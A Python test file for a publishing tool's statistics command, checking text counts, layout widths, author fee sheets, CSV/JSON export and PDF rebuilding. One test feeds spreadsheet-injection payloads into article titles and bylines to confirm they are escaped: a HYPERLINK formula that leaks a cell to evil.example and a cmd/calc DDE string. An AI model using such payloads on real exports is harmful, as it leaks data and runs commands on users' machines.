"""`publisher stats`: counts against ones computed here from the raw files and the PDF."""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections import Counter

import yaml

from publisher.cli import main
from publisher.desk.stats import ItemStats, fee_sheet, item_stats, printed_text
from publisher.source.model import Kind
from tests.conftest import ROOTS, SAMPLE

HAN = re.compile(r"[\u3400-\u4dbf\u4e00-\u9fff]")


def raw_parts(path) -> tuple[dict, str]:
    """Front matter (as plain YAML) and body of an article file, read here, not by the tool."""
    _, front, body = path.read_text(encoding="utf-8").split("---\n", 2)
    return yaml.safe_load(front), body


def printed_fields(front: dict) -> str:
    byline = front.get("byline") or []
    byline = [byline] if isinstance(byline, str | dict) else byline
    people = "".join(p if isinstance(p, str) else "".join(map(str, p.values())) for p in byline)
    title = front.get("title") or ""
    title = "".join(map(str, title)) if isinstance(title, list) else str(title)
    end = front.get("end_note") or {}
    return "".join([str(front.get(k) or "") for k in ("kicker", "subtitle", "dateline",
                                                       "editor_note")]
                   + [title, people, "".join(end.values())])


def paragraph_count(body: str) -> int:
    """Blocks between blank lines; a heading line is a paragraph of its own; ::: lines are not."""
    count = 0
    for block in body.split("\n\n"):
        lines = [ln for ln in block.splitlines() if ln.strip() and not ln.startswith(":::")]
        headings = sum(ln.startswith("#") for ln in lines)
        count += headings + (len(lines) > headings)
    return count


def test_text_counts_match_the_raw_files(sample_issue, sample_laid_out):
    items = item_stats(sample_issue, sample_laid_out)
    assert len(items) == len(sample_issue.articles) == 50
    for article, item in zip(sample_issue.articles, items, strict=True):
        front, body = raw_parts(article.path)
        assert item.han == len(HAN.findall(body + printed_fields(front))), article.path.name
        assert item.paragraphs == paragraph_count(body), article.path.name
        assert item.han <= item.chars and item.words < item.chars


# Brackets and dashes, whole or half width; not 【】: the layout's 【编者按】 label prints them too.
MARKS = "（）()《》〈〉〔〕“”‘’［］[]—"


def test_the_marks_counted_are_the_marks_printed(sample_issue, sample_laid_out):
    """A dateline's （） and a subtitle's —— were printed but not counted, an end note's （）
    were: each item's brackets and dashes, counted from its sources, are those on its lines."""
    for article in sample_issue.articles:
        counted = Counter(c for c in "".join(printed_text(article)) if c in MARKS)
        printed = Counter(c for line in sample_laid_out.item_lines[article.anchor]
                          for c in line.text if c in MARKS)
        assert counted == printed, article.path.name


def han(text: str) -> str:
    return "".join(HAN.findall(text))


def test_printed_lines_are_the_items_own(sample_issue, sample_laid_out):
    """Every printed line given to an item holds that item's words, and its lines run from
    its first printed words to its last."""
    items = item_stats(sample_issue, sample_laid_out)
    for article, item in zip(sample_issue.articles, items, strict=True):
        source = han(article.path.read_text(encoding="utf-8"))
        if article.kind == Kind.back_cover:
            # The back cover's foot prints the marks of an internal publication within the item.
            source += han(f"准印证号：{sample_issue.permit}内部资料，免费交流")
        lines = sample_laid_out.item_lines[article.anchor]
        assert item.lines == len(lines) > 0
        for line in lines:
            # Labels the layout adds: 【编者按】, the 微书摘 box's label.
            words = han(line.text).removeprefix("编者按")
            if words and words != "微书摘":
                assert words in source, (article.path.name, line.text)
        printed = han("".join(line.text for line in lines))
        last = han(article.body)[-8:]
        assert last in printed, article.path.name
        # Folios: from the first line's page to the last's.
        first, final = lines[0].page, max(line.page for line in lines)
        labels = sample_laid_out.labels
        expected = labels[first - 1] + (f"–{labels[final - 1]}" if final != first else "")
        assert item.folios == expected


def test_layout_chars_are_line_widths_times_lines(sample_issue, sample_laid_out):
    """A column holds 21 characters, the full width 45: 要闻要论's briefs run in columns,
    the 卷首语 across the page, and so does 270's 编者按, its short last line too."""
    items = {i.file: i for i in item_stats(sample_issue, sample_laid_out)}
    for article in sample_issue.articles:
        item = items[str(article.path.relative_to(SAMPLE))]
        if article.kind == Kind.brief:
            assert item.layout_chars == 21 * item.lines
        elif article.column == "juanshouyu" or article.path.name.startswith("270-"):
            assert item.layout_chars == 45 * item.lines
        else:
            assert 21 * item.lines <= item.layout_chars <= 45 * item.lines


def test_json_csv_and_fee_sheet(sample_pdf, tmp_path, capsys):
    issue = tmp_path / "2015-10"
    shutil.copytree(SAMPLE, issue)
    with (issue / "issue.yaml").open("a", encoding="utf-8") as manifest:
        manifest.write("fees: {per_thousand: 100}\n")
    out = tmp_path / "out"
    assert main(["stats", str(issue), "--pdf", str(sample_pdf), "-o", str(out), "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert [i["file"] for i in data["items"]] == [
        f"articles/{p.name}" for p in sorted((SAMPLE / "articles").glob("*.md"))]
    for item in data["items"]:
        assert set(item) >= {"file", "title", "authors", "han", "chars", "paragraphs",
                             "folios", "lines", "layout_chars", "fee"}
        # whole thousands, a part thousand counted as one: 1125 is paid as 2000
        assert item["fee"] == -(-item["layout_chars"] // 1000) * 100
    total = data["total"]
    assert total["fee"] == sum(i["fee"] for i in data["items"])
    assert total["layout_chars"] == sum(i["layout_chars"] for i in data["items"])
    assert total["han"] == sum(i["han"] for i in data["items"])
    # with a byte order mark, so that Excel reads it as UTF-8
    assert (out / "2015-10-fees.csv").read_bytes().startswith("\ufeffauthor,".encode())
    with (out / "2015-10-fees.csv").open(encoding="utf-8-sig") as f:
        sheet = {row["author"]: row for row in csv.DictReader(f)}
    speech = next(i for i in data["items"] if i["file"].endswith("180-fu-xingguo.md"))
    assert float(sheet["傅兴国"]["fee"]) == speech["fee"]
    assert round(sum(float(r["fee"]) for r in sheet.values()), 2) == total["fee"]

    assert main(["stats", str(issue), "--pdf", str(sample_pdf), "-o", str(out), "--csv"]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert rows[0][:3] == ["file", "title", "authors"] and len(rows) == 52
    # fees to the fen, as the fee sheet writes them
    assert rows[1][-1] == f"{data['items'][0]['fee']:.2f}" and rows[-1][-1] == f"{total['fee']:.2f}"


def test_a_shared_fee_adds_up_to_the_item_s_fee():
    """Three authors of a 100.00 元 item were each paid 33.33: the fee sheet paid 99.99."""
    item = ItemStats(file="articles/010-a.md", title="标题", authors=["甲", "乙", "丙"], han=0,
                     chars=0, paragraphs=0, words=0, folios="1", lines=0, layout_chars=1000,
                     fee=100.0)
    rows = fee_sheet([item])
    assert [(r["layout_chars"], r["fee"]) for r in rows] == [(334, 33.34), (333, 33.33),
                                                              (333, 33.33)]


def test_a_name_or_title_a_spreadsheet_would_run_is_written_as_text(tmp_path, capsys):
    issue = tmp_path / "2015-10"
    shutil.copytree(ROOTS / "good-minimal", issue)
    with (issue / "issue.yaml").open("a", encoding="utf-8") as manifest:
        manifest.write("fees: {per_thousand: 100}\n")
    leak, run = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0"
    front = yaml.safe_dump({"column": "diaocha", "title": run, "byline": leak}, allow_unicode=True)
    (issue / "articles" / "10-good.md").write_text(f"---\n{front}---\n\n正文第一段。\n",
                                                  encoding="utf-8")
    second = issue / "articles" / "20-figure.md"
    second.write_text(second.read_text(encoding="utf-8").replace(
        "{organisation: 石嘴山市委组织部}", '{organisation: "-2+3"}'), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["stats", str(issue), "-o", str(out), "--csv"]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert [row[1:3] for row in rows[1:3]] == [[f"'{run}", f"'{leak}"],
                                               ["第一行 第二行", "孙瑛、-2+3"]]
    with (out / "2015-10-fees.csv").open(encoding="utf-8-sig") as f:
        sheet = list(csv.reader(f))
    assert [row[:2] for row in sheet[1:]] == [
        [f"'{leak}", f"'{run}"], ["孙瑛", "第一行 第二行"], ["'-2+3", "第一行 第二行"]]
    # Numbers stay numbers, and sane ones: with its long Latin title set larger than the body,
    # a page had no body lines, and each of its lines was counted a hundred million wide.
    assert all(row[2].isdigit() and re.fullmatch(r"\d+\.\d\d", row[3]) for row in sheet[1:])
    assert all(int(row[2]) < 1000 for row in sheet[1:])


def test_pdf_is_rebuilt_when_older_than_sources_and_must_match_them(tmp_path, capsys):
    import os

    from publisher.desk.stats import pdf_for
    from publisher.source.load import load_issue

    issue = tmp_path / "two"
    shutil.copytree(SAMPLE, issue)
    for path in sorted((issue / "articles").glob("*.md"))[1:-1]:
        path.unlink()
    pdf = pdf_for(load_issue(issue), tmp_path / "out")
    built = pdf.stat().st_mtime_ns
    assert pdf_for(load_issue(issue), tmp_path / "out").stat().st_mtime_ns == built
    source = issue / "articles" / "010-juanshouyu.md"
    os.utime(source, ns=(built + 10**9, built + 10**9))
    assert pdf_for(load_issue(issue), tmp_path / "out").stat().st_mtime_ns > built
    # A corrected article unpacked with the time it was saved at, before the PDF was built (a
    # deleted article, too, leaves every file older than the PDF that still holds it).
    built = pdf.stat().st_mtime_ns
    source.write_text(source.read_text(encoding="utf-8") + "\n作者改过的一句。\n",
                      encoding="utf-8")
    os.utime(source, ns=(built - 10**9, built - 10**9))
    assert pdf_for(load_issue(issue), tmp_path / "out").stat().st_mtime_ns > built

    # Output kept in the issue folder: what is written after the PDF is no newer source.
    inside = issue / "out"
    pdf_inside = pdf_for(load_issue(issue), inside)
    built = pdf_inside.stat().st_mtime_ns
    (inside / "2015-10-fees.csv").write_text("author,items,layout_chars,fee\n", encoding="utf-8")
    os.utime(inside / "2015-10-fees.csv", ns=(built + 10**9, built + 10**9))
    assert pdf_for(load_issue(issue), inside).stat().st_mtime_ns == built
    # An editor's swap file, written while the article is open, is no source either.
    swap = issue / "articles" / ".010-juanshouyu.md.swp"
    swap.write_bytes(b"b0VIM 9.0")
    os.utime(swap, ns=(built + 10**9, built + 10**9))
    assert pdf_for(load_issue(issue), inside).stat().st_mtime_ns == built

    # A PDF of other articles: another issue's, or an earlier proof's.
    assert main(["stats", str(SAMPLE), "--pdf", str(pdf)]) == 1
    err = capsys.readouterr().err
    assert err == f"{pdf}: was not made from the articles of {SAMPLE} as they are now: build it " \
        "again, or leave --pdf out to use the issue's own PDF\n"
    source.write_text(source.read_text(encoding="utf-8") + "\n补一句。\n", encoding="utf-8")
    for command in ("stats", "offprints"):
        assert main([command, str(issue), "--pdf", str(pdf), "-o", str(tmp_path / "o")]) == 1
        assert capsys.readouterr().err.startswith(f"{pdf}: was not made from the articles")
